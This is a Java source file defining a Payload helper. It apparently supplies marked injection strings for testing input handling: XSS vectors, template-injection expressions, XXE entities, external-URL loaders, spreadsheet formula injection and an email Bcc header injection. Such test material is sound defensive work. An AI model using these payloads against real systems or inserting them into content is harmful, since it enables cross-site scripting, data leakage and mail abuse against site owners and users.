package fr.cqpm.input;

import java.util.List;
import java.util.stream.IntStream;

/**
 * A text that wants to be more than text. All carry {@link #MARK}, by which they are
 * found again.
 */
final class Payload {

	static final String MARK = "xss0payload";

	private static final List<String> TEXTS = List.of("<script id=MARK>MARK()</script>",
			"<img id=MARK src=URL onerror=MARK()>", "\"><svg id=MARK onload=MARK()>", "' onfocus=MARK() autofocus x='",
			"\" onmouseover=\"MARK()\" MARK=\"", "</textarea><script id=MARK>MARK()</script>",
			"</title></style><iframe id=MARK src=\"javascript:MARK()\"></iframe>",
			"<a id=MARK href=\"javascript:MARK()\">x</a>", "]]><MARK/><![CDATA[", "--><MARK>", "<!--MARK",
			"&lt;script&gt;MARK&lt;/script&gt; &amp;MARK; &#60;MARK&#62;",
			"[[${7*7}]] [(${7*7})] ${7*7} *{MARK} __${MARK}__ ~{MARK}", "{{7*7}}MARK#{7*7}",
			"<style>@import url(URL);*{background:url(URL)}</style>MARK", "<link rel=stylesheet href=URL><MARK>",
			"<object data=URL type=image/svg+xml></object><embed src=URL><MARK>", "<base href=URL><MARK>",
			"javascript:MARK()//", "URL?MARK", "=HYPERLINK(\"URL\",\"MARK\")", "@SUM(1)|MARK",
			"MARK\r\nBcc: x@exemple.test",
			"<xi:include href=\"URL\"/><!DOCTYPE MARK SYSTEM \"URL\"><!ENTITY MARK SYSTEM \"URL\">",
			"<meta http-equiv=refresh content=\"0;url=URL\"><MARK>", "MARK <b>\u202E gras</b>");

	private Payload() {
	}

	/** With the address of a server that nobody should ask for anything. */
	static List<String> all(String url) {
		return IntStream.range(0, TEXTS.size())
			.mapToObj((number) -> TEXTS.get(number).replace("URL", url).replace("MARK", MARK))
			.toList();
	}

}
